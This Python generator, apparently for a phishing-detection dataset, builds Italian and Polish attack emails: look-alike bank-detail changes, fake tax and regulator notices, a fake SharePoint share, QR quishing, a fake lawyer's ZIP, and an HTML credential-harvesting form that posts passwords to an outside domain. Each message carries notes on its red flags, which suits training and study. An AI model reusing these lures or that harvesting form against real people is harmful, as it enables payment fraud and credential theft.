"""Attack messages 17-21 (Italian) and 22-26 (Polish)."""
import base64

import mailers as M
from core import message, alt, mixed, related, pdf_att, zip_att
from mime import Text, Attachment, to_plain, html_outlook, html_gmail, html_simple, html_branded
from common import D, ib
from people import st, BANK, TAX
from docs import simple_doc, zip_plain
from qr import qr_png
from util import hexid, alnum

F = "attack"

HOSTINGER = {"hop": "from %(pc)s (unknown [%(ip)s])\n\t(Authenticated sender: %(frm)s)\n\tby smtp.hostinger.com (Postfix) with ESMTPSA id %(id)s\n\tfor <%(rcpt)s>; %(date_abbr)s",
             "client": ("fr-int-smtpout9.hostinger.io", "fr-int-smtpout9.hostinger.io", "31.220.108.9")}


def cpanel_php(host, ip, site, user, script):
    """PHP mail() from a hacked WordPress site on shared cPanel hosting."""
    def prof(ctx):
        r, d = ctx["r"], ctx["date"]
        hops = ["from %s by %s with local (Exim 4.98)\n\t(envelope-from <%s@%s>)\n\tid %s\n\tfor %s;\n\t%s" % (
            user, host, user, host, M.exim_id(r), ctx["rcpt"], M.loc(d, "it", 0))]
        hdrs = [("X-PHP-Script", "%s%s for 196.251.%d.%d" % (site, script, r.randint(60, 90), r.randint(1, 250))),
                ("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"),
                ("X-AntiAbuse", "This header was added to track abuse, please include it with any abuse report"),
                ("X-AntiAbuse", "Primary Hostname - %s" % host),
                ("X-AntiAbuse", "Original Domain - example.com"),
                ("X-AntiAbuse", "Originator/Caller UID/GID - [1034 1037] / [47 12]"),
                ("X-AntiAbuse", "Sender Address Domain - %s" % host),
                ("X-Get-Message-Sender-Via", "%s: authenticated_id: %s/from_h" % (host, user)),
                ("X-Authenticated-Sender", "%s: %s" % (host, ctx["frm"]))]
        return {"msgid": "<%s@%s>" % (alnum(r, 43), site), "hops": hops, "client": (host, host, ip),
                "tls": M.TLS12, "headers": hdrs, "return_path": "%s@%s" % (user, host),
                "boundary": lambda k: "b1_" + alnum(r, 43), "order": "phpmailer"}
    return prof


def build():
    # ============================================================ ITALIAN
    # ------------------------------------------------------------ 17 Ferretti look-alike IBAN change
    txt = """Gentile Dott. Bianchi,

con la presente Vi informiamo che, a seguito della riorganizzazione della tesoreria del nostro gruppo, a partire dalla data odierna tutti i pagamenti a favore di Ferretti Trasporti S.p.A. dovranno essere effettuati esclusivamente sulle seguenti coordinate bancarie:

Intestatario: Ferretti Trasporti S.p.A.
Banca: illimity Bank S.p.A. - Milano
IBAN: %s

Le coordinate precedenti presso Banco BPM non sono più attive: eventuali bonifici disposti su tale conto verranno respinti dalla banca.

Vi chiediamo cortesemente di aggiornare la Vostra anagrafica fornitori e di disporre entro venerdì il pagamento delle fatture n. 2026/1187 e n. 2026/1203 (totale € 14.862,40), scadute il 31/10, sul nuovo conto, così da evitare il blocco dei ritiri programmati.

In questi giorni il centralino dell'amministrazione è in manutenzione: per qualsiasi chiarimento Vi preghiamo di rispondere direttamente a questa e-mail.

Cordiali saluti

Chiara Colombo
Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via Cristoforo Colombo 14 - 24044 Dalmine (BG)
P.IVA %s""" % (ib(BANK["att_ferretti"]), TAX["ferretti_piva"])
    message(F, 17, "it", "ferretti-lookalike-variazione-iban", M.outlook_smtp,
            ("Chiara Colombo", "c.colombo@ferrettitrasporti.it"), [st("marco.bianchi")],
            "Variazione coordinate bancarie - Ferretti Trasporti S.p.A.",
            D("it", 11, 4, 9, 46, 2),
            alt(txt, html_outlook(txt, "iso-8859-15", lang="IT"), "iso-8859-15"),
            opt={"provider": HOSTINGER, "ip": "41.216.188.37", "zone": "it", "clang": "it"},
            hcs="iso-8859-15", hmode="Q",
            what="Carrier bank-detail change: 'Chiara Colombo' of Ferretti Trasporti announces a new IBAN and asks to pay two overdue invoices there by Friday.",
            why="Look-alike domain ferrettitrasporti.it (hyphen dropped; real is ferretti-trasporti.it) on Hostinger, sent from an African VPS IP; old account 'no longer active', phones 'in maintenance' so no call-back verification, pressure via threatened pick-up stop. Genuine Ferretti reminder is business/17.",
            pair="business/17")

    # ------------------------------------------------------------ 18 SdI 'scarto' -> fake Agenzia Entrate login
    url = "https://ivaservizi-agenziaentrate.it-notifiche.com/portale/?id=0a4K7&cf=" + TAX["example_it_piva"]
    txt = """Agenzia delle Entrate - Fatture e Corrispettivi

Gentile contribuente,

il Sistema di Interscambio (SdI) ha scartato il file IT%s_0a4K7.xml trasmesso in data 12/11/2026 per il seguente motivo:

Codice errore 00404 - Fattura duplicata

La fattura non si considera emessa. Ai sensi dell'art. 6 del D.Lgs. 471/1997 la mancata o tardiva emissione della fattura può comportare l'applicazione di sanzioni. Per visualizzare la notifica completa e ritrasmettere il documento entro 5 giorni acceda all'area riservata con SPID, CIE o CNS:

[[BUTTON:Accedi all'area riservata|%s]]

Questo messaggio è generato automaticamente, si prega di non rispondere.""" % (TAX["example_it_piva"], url)
    html = html_branded("Agenzia delle Entrate", txt, brand="#0a3a73", logo_text="Agenzia delle Entrate", lang="it",
                        footer="Agenzia delle Entrate - Via Giorgione 106, 00147 Roma\nCodice fiscale e partita IVA 06363391001")
    message(F, 18, "it", "sdi-fattura-scartata-spid-phishing", cpanel_php(
                "srv47.ehost-italia.net", "89.46.108.77", "pasticceriadolcevita.it", "pastic12",
                "/wp-content/plugins/wp-file-upgrade/inc/mailer.php"),
            ("Agenzia delle Entrate", "noreply@agenziaentrate-fatturazione.it"), [st("marco.bianchi")],
            "Notifica di scarto fattura elettronica - codice 00404 - prot. 0a4K7",
            D("it", 11, 13, 7, 58, 31),
            alt(to_plain(txt, "bare"), html, "utf-8", cte_p="quoted-printable", cte_h="base64"),
            hcs="utf-8", hmode="B",
            what="E-invoicing phishing: fake Agenzia delle Entrate 'notifica di scarto' from the SdI with a button to log in via SPID/CIE to the 'Fatture e Corrispettivi' area.",
            why="SdI notifications are delivered through the transmission channel (PEC/SDICoop/intermediary), never by plain e-mail with a login button; link goes to it-notifiche.com; the mail was sent by a PHP mailer script planted in a hacked WordPress site (X-PHP-Script, cPanel envelope). Genuine courtesy copy of an e-invoice is business/18.",
            pair="business/18")

    # ------------------------------------------------------------ 19 fake lawyer, ZIP with .pdf.vbs
    txt = """Spett.le Example Group Italia S.r.l.
c.a. Ufficio Amministrazione

Scrivo in nome e per conto della Ferretti Trasporti S.p.A., con sede in Dalmine (BG), che mi ha conferito mandato per il recupero del credito vantato nei Vostri confronti per servizi di trasporto resi nel periodo luglio-settembre 2026, pari a complessivi € 23.418,60 oltre interessi di mora ai sensi del D.Lgs. 231/2002.

Nonostante i ripetuti solleciti della mia assistita, il pagamento non risulta ad oggi effettuato. Con la presente Vi diffido formalmente ad adempiere entro e non oltre 7 (sette) giorni dal ricevimento della presente, avvertendoVi che in difetto procederò senza ulteriore preavviso con ricorso per decreto ingiuntivo provvisoriamente esecutivo, con aggravio di spese a Vostro carico.

In allegato trasmetto l'estratto delle fatture insolute e la documentazione a supporto (archivio compresso per le dimensioni dei file).

Distinti saluti

Avv. Roberta Mancini
Studio Legale Mancini & Associati
Via Sant'Orsola 11 - 24122 Bergamo
Tel. 035 418 2270"""
    z = zip_plain([("Estratto_fatture_insolute_prot_4471-2026.pdf.vbs", b"' placeholder\r\n")],
                  dt=(2026, 11, 18, 11, 2, 44))
    message(F, 19, "it", "falso-avvocato-diffida-zip-vbs", M.outlook_smtp,
            ("Avv. Roberta Mancini", "r.mancini@studiolegale-mancini.eu"), [st("marco.bianchi")],
            "Diffida e messa in mora - Ferretti Trasporti S.p.A. / Example Group Italia S.r.l. - ns. rif. 4471/2026",
            D("it", 11, 18, 11, 9, 15),
            mixed(alt(txt, html_outlook(txt, "windows-1252", lang="IT"), "windows-1252"),
                  zip_att(z, "Documentazione_prot_4471-2026.zip")),
            opt={"provider": M.ARUBA, "ip": "146.70.117.214", "zone": "it", "clang": "it"},
            hcs="windows-1252", hmode="Q",
            what="Fake lawyer / debt-collection threat in the name of the real carrier Ferretti, with a ZIP 'estratto fatture' containing a .pdf.vbs file.",
            why="Law firm domain registered for the campaign (no PEC, not an Italian bar PEC address), sent via Aruba SMTP from a VPN exit; formal Italian legal diction used as pressure; the archive hides a VBScript behind a double extension (inert placeholder here). Ferretti's own genuine reminder: business/17.",
            pair="business/17")

    # ------------------------------------------------------------ 20 fake SharePoint share from compromised installer M365 mailbox
    url = "https://teleimpianti-lombardi.share-docs365.com/:b:/s/Offerte/EVx9q2LkR0JHm3TbZ4dWQ8kBq7v?e=ZWxlbmEuY29udGlAZXhhbXBsZS5jb20"
    txt = """Fabio Lombardi ha condiviso un file con te

Ciao Elena, ti giro l'offerta aggiornata per i lotti FTTH 2027 come da nostra call di martedì. Fammi sapere entro venerdì se va bene così.

Offerta_2027_FTTH_Lombardia_rev3.pdf

[[BUTTON:Apri|%s]]

Questo collegamento funziona solo per i destinatari diretti del messaggio.

Microsoft rispetta la tua privacy. Per altre informazioni, leggi l'informativa sulla privacy.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052""" % url
    html = html_branded("SharePoint", txt, brand="#036c70", logo_text="SharePoint", lang="it")
    message(F, 20, "it", "finta-condivisione-sharepoint-fornitore-compromesso", M.m365,
            ("Fabio Lombardi", "f.lombardi@teleimpianti-lombardi.it"), [st("elena.conti")],
            'Fabio Lombardi ha condiviso "Offerta_2027_FTTH_Lombardia_rev3.pdf" con te',
            D("it", 11, 26, 14, 33, 50),
            alt(to_plain(txt, "angle"), html, "utf-8"),
            opt={"geo": "EUR05-VI1", "region": "eurprd05", "clang": "it-IT", "lang": "it-IT, en-US"},
            hcs="utf-8", hmode="B",
            what="Fake SharePoint sharing notification sent from the compromised mailbox of a real subcontractor (Teleimpianti Lombardi); 'Apri' leads to a credential-harvesting page.",
            why="Real SharePoint invitations are sent by no-reply@sharepointonline.com and link to *.sharepoint.com (compare business/20 from the same company); this one is hand-made HTML from the user's own mailbox, link host share-docs365.com with the recipient's address encoded - supplier account takeover used for lateral phishing.",
            pair="business/20")

    # ------------------------------------------------------------ 21 AGCOM ROC + SPID phishing via SES
    url = "https://roc-agcom.servizi-spid-online.com/spid/login?op=34127"
    txt = """Spett.le Example Group Italia S.r.l.
n. iscrizione ROC 34127

dai controlli effettuati risulta che la comunicazione annuale prevista dal Regolamento del Registro degli Operatori di Comunicazione (Allegato A alla Delibera n. 666/08/CONS e s.m.i.), da trasmettere entro il 31 luglio 2026, non è ancora pervenuta.

L'omessa comunicazione comporta l'applicazione della sanzione amministrativa pecuniaria da euro 516 a euro 103.291 ai sensi dell'art. 1, comma 30, della legge 249/1997, nonché l'avvio della procedura di cancellazione dal Registro.

Per regolarizzare la posizione senza sanzioni è necessario completare la comunicazione entro 10 giorni accedendo al portale ROC con la propria identità digitale:

[[BUTTON:Entra con SPID|%s]]

Autorità per le Garanzie nelle Comunicazioni
Servizio Registro degli Operatori di Comunicazione
Centro Direzionale, Isola B5 - 80143 Napoli""" % url
    html = html_branded("AGCOM - ROC", txt, brand="#06c", logo_text="AGCOM | Registro degli Operatori di Comunicazione", lang="it")
    message(F, 21, "it", "agcom-roc-sanzione-spid-phishing", M.ses,
            ("AGCOM - Registro Operatori di Comunicazione", "roc-notifiche@agcom-registro.it"), [st("giulia.ricci")],
            "ROC - Comunicazione annuale 2026 non pervenuta: avvio procedimento sanzionatorio",
            D("it", 12, 2, 10, 4, 27),
            alt(to_plain(txt, "angle"), html, "iso-8859-1", cte_p="quoted-printable", cte_h="quoted-printable"),
            hcs="iso-8859-1", hmode="Q",
            what="Regulator phishing for Italian telecom operators: fake AGCOM ROC notice threatening fines of up to EUR 103,291 unless the annual filing is done via an 'Entra con SPID' link.",
            why="Trade-specific (ROC registration is mandatory for telecom operators) but AGCOM writes via PEC, not via Amazon SES from agcom-registro.it; the SPID button leads to servizi-spid-online.com, a fake SPID identity-provider selector that harvests SPID credentials and OTPs.")

    # ============================================================ POLISH
    # ------------------------------------------------------------ 22 Partner Logistik look-alike bank change + PDF
    txt = """Dzień dobry Panie Pawle,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 2 listopada 2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować wyłącznie na nowy rachunek:

Bank Millennium S.A.
%s

Dotychczasowy rachunek w PKO BP zostanie zamknięty z końcem października. Nowy rachunek został zgłoszony do urzędu skarbowego, jednak jego widoczność w wykazie podatników VAT (tzw. białej liście) może potrwać kilka dni roboczych - prosimy więc nie wstrzymywać płatności z tego powodu.

Prosimy również o realizację przelewów bez mechanizmu podzielonej płatności, ponieważ nasz rachunek VAT jest w trakcie przenoszenia.

W załączeniu przesyłamy pismo potwierdzające zmianę, podpisane przez Zarząd. Faktury FV/10/2026/0341 i FV/10/2026/0352 z terminem płatności 05.11 prosimy opłacić już na nowy rachunek.

Z poważaniem
Tadeusz Zieliński
Kierownik ds. operacyjnych
Partner Logistik sp. z o.o.
ul. Gnieźnieńska 52, 62-028 Koziegłowy""" % ib(BANK["att_partner"])
    letter = simple_doc([
        "## Partner Logistik sp. z o.o.", "ul. Gnieźnieńska 52, 62-028 Koziegłowy · NIP " + TAX["partner_nip"], "",
        "Koziegłowy, 28.10.2026", "", "Example Group Polska sp. z o.o.", "ul. Legnicka 48", "54-202 Wrocław", "",
        "# Zawiadomienie o zmianie rachunku bankowego", "",
        "Niniejszym informujemy, że od dnia 02.11.2026 r. właściwym rachunkiem do regulowania",
        "należności na rzecz Partner Logistik sp. z o.o. jest rachunek prowadzony przez Bank Millennium S.A.:", "",
        "# " + ib(BANK["att_partner"]), "",
        "Rachunek prowadzony w PKO BP S.A. zostaje zamknięty. Płatności kierowane na dotychczasowy",
        "rachunek nie będą uznawane za zapłatę.", "",
        "Za Zarząd:", "Tadeusz Zieliński, prokurent", "",
        "---", "Partner Logistik sp. z o.o. · KRS 0000418823 · Sąd Rejonowy Poznań - Nowe Miasto i Wilda",
    ], title="Zawiadomienie o zmianie rachunku", author="Tadeusz Zielinski", producer="Microsoft: Print To PDF",
        creator="Microsoft Word", date="D:20261028141203+01'00'")
    message(F, 22, "pl", "partner-logistik-lookalike-zmiana-rachunku", M.outlook_smtp,
            ("Tadeusz Zieliński", "t.zielinski@partner-logistic.pl"), [st("pawel.lukasik")],
            "Zmiana rachunku bankowego - Partner Logistik sp. z o.o.",
            D("pl", 10, 28, 14, 20, 11),
            mixed(alt(txt, html_outlook(txt, "iso-8859-2", lang="PL"), "iso-8859-2"),
                  pdf_att(letter, "Zawiadomienie_zmiana_rachunku.pdf")),
            opt={"provider": M.HOMEPL, "ip": "194.26.192.61", "isp": "unknown", "zone": "pl", "clang": "pl"},
            hcs="iso-8859-2", hmode="Q",
            what="Logistics-partner bank change: 'Tadeusz Zieliński' announces a new Millennium account, asks to pay two invoices there and to skip split payment (MPP).",
            why="Look-alike domain partner-logistic.pl (k→c) on home.pl hosting; pre-emptively explains why the account is missing from the VAT white list and asks to bypass split payment - both controls that would expose the fraud; signed 'letter' is a Print-to-PDF. Genuine Partner Logistik invoice is business/22.",
            pair="business/22")

    # ------------------------------------------------------------ 23 KSeF credential phishing via SendGrid
    url = "https://u39112874.ct.sendgrid.net/ls/click?upn=u001.q8Zc3Vd7Kk1Yf0pRtM2wA9sLeB4nG6hJxU5iO7yT-2BqWvD3rZm8cFa1KpN0sL2eH4gJ"
    txt = """Ministerstwo Finansów - Krajowy System e-Faktur

Szanowni Państwo,

faktura ustrukturyzowana nr FA/2026/11/00873 przesłana dla podmiotu o NIP %s została odrzucona przez Krajowy System e-Faktur (kod błędu 9105 - nieprawidłowy token uwierzytelniający).

Zgodnie z harmonogramem wdrożenia KSeF 2.0 tokeny wygenerowane przed 1 lutego 2026 r. tracą ważność. Aby uniknąć blokady wystawiania i odbierania faktur, należy ponownie uwierzytelnić podmiot i wygenerować certyfikat KSeF do dnia 30.11.2026 r.

[[BUTTON:Zaloguj się do Aplikacji Podatnika KSeF|%s]]

Logowanie jest możliwe za pomocą profilu zaufanego, e-dowodu lub podpisu kwalifikowanego.

Wiadomość wygenerowana automatycznie - prosimy na nią nie odpowiadać.
Ministerstwo Finansów, ul. Świętokrzyska 12, 00-916 Warszawa""" % (TAX["example_pl_nip"], url)
    html = html_branded("KSeF", txt, brand="#d4213d", logo_text="KSeF · Krajowy System e-Faktur", lang="pl")
    message(F, 23, "pl", "ksef-token-phishing-sendgrid", M.sendgrid,
            ("Krajowy System e-Faktur", "powiadomienia@ksef-podatnik.pl"), [st("pawel.lukasik")],
            "KSeF: faktura FA/2026/11/00873 odrzucona - wymagana ponowna autoryzacja",
            D("pl", 11, 16, 8, 3, 44),
            alt(to_plain(txt, "bare"), html, "utf-8"),
            opt={"em": "em8840.ksef-podatnik.pl", "ip": "149.72.203.18"},
            hcs="utf-8", hmode="Q",
            what="Polish e-invoicing (KSeF) phishing: 'invoice rejected, token expired' with a button to log in to a fake 'Aplikacja Podatnika KSeF' (Profil Zaufany / e-dowód).",
            why="KSeF does not e-mail rejection notices with login buttons; sender ksef-podatnik.pl via an abused SendGrid account, click-tracking redirect to a look-alike of ksef.mf.gov.pl; exploits the real 2026 KSeF 2.0 token-to-certificate migration. Genuine invoice with KSeF number from a supplier is business/23.",
            pair="business/23")

    # ------------------------------------------------------------ 24 Pekao Biznes24 quishing (QR PNG inline)
    qurl = "https://pekao-biznes24.aktywacja-tokena.com/t/?k=" + base64.urlsafe_b64encode(b"katarzyna.wojcik@example.com").decode().rstrip("=")
    png, q = qr_png(qurl, scale=5)
    txt = """Szanowni Państwo,

w związku z wdrożeniem nowych wymogów bezpieczeństwa (PSD2 oraz rekomendacje KNF) wszystkie tokeny mobilne w systemie Pekao Biznes24 muszą zostać ponownie aktywowane do 20.11.2026 r. Po tym terminie autoryzacja przelewów i paczek płatności nie będzie możliwa.

Aby aktywować token, zeskanuj kod QR aparatem telefonu służbowego i postępuj zgodnie z instrukcją na ekranie. Aktywacja zajmuje ok. 2 minuty - przygotuj identyfikator użytkownika i hasło do Pekao Biznes24.

Z poważaniem
Zespół Bankowości Elektronicznej
Bank Pekao S.A."""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:560px;border-top:5px solid #c8102e;padding:20px">
<p style="font-size:18px;font-weight:bold;color:#c8102e">Pekao Biznes24</p>
%s
<p style="text-align:center"><img src="cid:qr_aktywacja" width="185" height="185" alt="Kod QR"></p>
<p style="font-size:11px;color:#777">Bank Pekao S.A., ul. Żubra 1, 01-066 Warszawa. Sąd Rejonowy dla m.st. Warszawy, XII Wydział Gospodarczy KRS 0000014843.</p>
</div></body></html>
""" % "\n".join("<p>%s</p>" % p.replace("\n", "<br>") for p in txt.split("\n\n"))
    message(F, 24, "pl", "pekao-biznes24-quishing-qr", M.phpmailer_vps,
            ("Bank Pekao S.A.", "bankowosc.elektroniczna@pekao-biznes24.com.pl"), [st("katarzyna.wojcik")],
            "Pekao Biznes24: wymagana ponowna aktywacja tokena mobilnego",
            D("pl", 11, 9, 11, 17, 26),
            related(alt(txt, html, "iso-8859-2", cte_p="base64", cte_h="base64"),
                    Attachment(png, "image/png", "qr_aktywacja.png", disposition="inline", cid="qr_aktywacja")),
            opt={"vps": ("srv781544.hstgr.cloud", "147.93.62.118"), "zone": "utc"},
            hcs="iso-8859-2", hmode="B",
            what="Bank quishing: fake Pekao Biznes24 notice demanding re-activation of the mobile token by scanning a QR code (inline PNG) with the company phone.",
            why="pekao-biznes24.com.pl is not pekao.com.pl, mail from a Hostinger VPS; banks do not re-activate tokens via e-mailed QR codes; QR decodes to aktywacja-tokena.com carrying the victim's address, moving the login/OTP theft to a phone outside corporate protection.")

    # ------------------------------------------------------------ 25 compromised wp.pl customer, HTML attachment
    att = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Potwierdzenie przelewu - PKO Bank Polski</title>
<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#e9edf2}.top{background:#003574;color:#fff;padding:14px 22px;font-size:17px}
.doc{max-width:620px;margin:30px auto;background:#fff;filter:blur(0)}.blur{padding:24px;color:#bbb;font-size:13px;line-height:20px}
.login{max-width:360px;margin:-140px auto 40px;background:#fff;border:1px solid #c9d2dc;padding:22px;box-shadow:0 4px 16px rgba(0,0,0,.15)}
input{width:100%;padding:8px;margin:6px 0 12px;border:1px solid #aab4bf;box-sizing:border-box}button{background:#0067b8;color:#fff;border:0;padding:9px 20px}</style></head>
<body><div class="top">PKO Bank Polski · Potwierdzenie wykonania przelewu</div>
<div class="doc"><div class="blur">Nadawca: HURTOWNIA BUDOWLANA KOWALCZYK ...<br>Odbiorca: EXAMPLE GROUP POLSKA SP. Z O.O. ...<br>Tytuł: FV/EG/2026/10/0412 ...<br>Kwota: ████████ PLN<br>Data księgowania: ██.██.2026</div></div>
<div class="login"><b>Dokument chroniony</b><p style="font-size:13px">Aby wyświetlić potwierdzenie, zaloguj się kontem Microsoft 365 odbiorcy.</p>
<form method="post" action="https://pko-potwierdzenia.com/odbierz.php">
<input type="email" name="u" value="pawel.lukasik@example.com"><input type="password" name="p" placeholder="Hasło">
<button type="submit">Wyświetl dokument</button></form></div></body></html>
"""
    txt = """Dzień dobry,

w załączeniu potwierdzenie przelewu za fakturę FV/EG/2026/10/0412. Proszę o sprawdzenie i zaksięgowanie wpłaty.

Pozdrawiam
Marek Kowalczyk
Hurtownia Budowlana Kowalczyk"""
    message(F, 25, "pl", "przejete-konto-wp-potwierdzenie-przelewu-html", M.wp,
            ("Marek Kowalczyk", "marek.kowalczyk@wp.pl"), [st("pawel.lukasik")],
            "Potwierdzenie przelewu - faktura FV/EG/2026/10/0412",
            D("pl", 11, 20, 22, 41, 8),
            mixed(Text(txt, "plain", "iso-8859-2", "quoted-printable"),
                  Attachment(att.encode("utf-8"), "text/html", "Potwierdzenie_przelewu_PKO_0412.html")),
            opt={"ip": "185.107.56.231"},
            hcs="iso-8859-2", hmode="Q",
            what="Lateral phishing from the genuinely compromised WP mailbox of a customer: 'payment confirmation' is an HTML file that blurs a fake PKO transfer slip and asks for the recipient's Microsoft 365 password.",
            why="Real sender (same address as the genuine complaint business/25) but logged in from a Dutch hosting IP late at night; a bank confirmation never needs the recipient's M365 password; local HTML form posts credentials to pko-potwierdzenia.com.",
            pair="business/25")

    # ------------------------------------------------------------ 26 fake UKE telecom fee demand + PDF
    txt = """Urząd Komunikacji Elektronicznej
Departament Rynku Telekomunikacyjnego

Example Group Polska sp. z o.o.
ul. Legnicka 48, 54-202 Wrocław

Przedsiębiorcy telekomunikacyjni wpisani do rejestru przedsiębiorców telekomunikacyjnych są obowiązani do wnoszenia rocznej opłaty telekomunikacyjnej. Według naszych danych opłata za 2026 r. w wysokości 4 318,00 zł nie została uiszczona.

Wzywamy do wpłaty należności w terminie 7 dni od dnia doręczenia niniejszego wezwania na rachunek:

%s
tytułem: DRT.WOT.4471.2026

Brak wpłaty w wyznaczonym terminie skutkować będzie wszczęciem postępowania egzekucyjnego w administracji oraz naliczeniem odsetek za zwłokę. Szczegółowe wyliczenie opłaty znajduje się w załączniku.

Z poważaniem
z up. Prezesa UKE
Wydział Opłat Telekomunikacyjnych""" % ib(BANK["att_uke"])
    pdfb = simple_doc([
        "## Urząd Komunikacji Elektronicznej", "ul. Giełdowa 7/9, 01-211 Warszawa", "",
        "Znak sprawy: DRT.WOT.4471.2026", "Warszawa, 24.11.2026", "",
        "# Wezwanie do zapłaty rocznej opłaty telekomunikacyjnej", "",
        "Zobowiązany: Example Group Polska sp. z o.o., NIP " + TAX["example_pl_nip"],
        "Przychód z działalności telekomunikacyjnej za rok 2024 (deklarowany): 2 878 666,67 zł",
        "Stawka opłaty: 0,15%  ·  Kwota opłaty: 4 318,00 zł", "",
        "Rachunek do wpłaty: " + ib(BANK["att_uke"]),
        "Termin: 7 dni od doręczenia", "",
        "Pouczenie: w przypadku braku zapłaty zostanie wszczęte postępowanie egzekucyjne w administracji.",
    ], title="Wezwanie DRT.WOT.4471.2026", author="UKE", producer="iText 5.5.13.3", creator="",
        date="D:20261124093010+01'00'")
    message(F, 26, "pl", "falszywe-wezwanie-uke-oplata", M.phpmailer_vps,
            ("Urząd Komunikacji Elektronicznej", "oplaty@uke-rejestr.pl"), [st("katarzyna.wojcik")],
            "Wezwanie do zapłaty rocznej opłaty telekomunikacyjnej za 2026 r. - DRT.WOT.4471.2026",
            D("pl", 11, 24, 9, 36, 40),
            mixed(Text(txt, "plain", "windows-1250", "quoted-printable"),
                  pdf_att(pdfb, "Wezwanie_DRT.WOT.4471.2026.pdf")),
            opt={"vps": ("vps-7e21c3a9.vps.ovh.net", "51.68.190.241"), "zone": "pl"},
            hcs="windows-1250", hmode="Q",
            what="Fake regulator payment demand: 'UKE' demands the annual telecom fee of PLN 4,318 within 7 days to a commercial bank account, PDF 'wezwanie' attached.",
            why="Trade-specific pretext (the annual telecom fee exists), but UKE's accounts are held at the central bank (NBP, sort codes 101...), not at Santander; domain uke-rejestr.pl instead of uke.gov.pl; official demands come via ePUAP/registered post, not from an OVH VPS.")
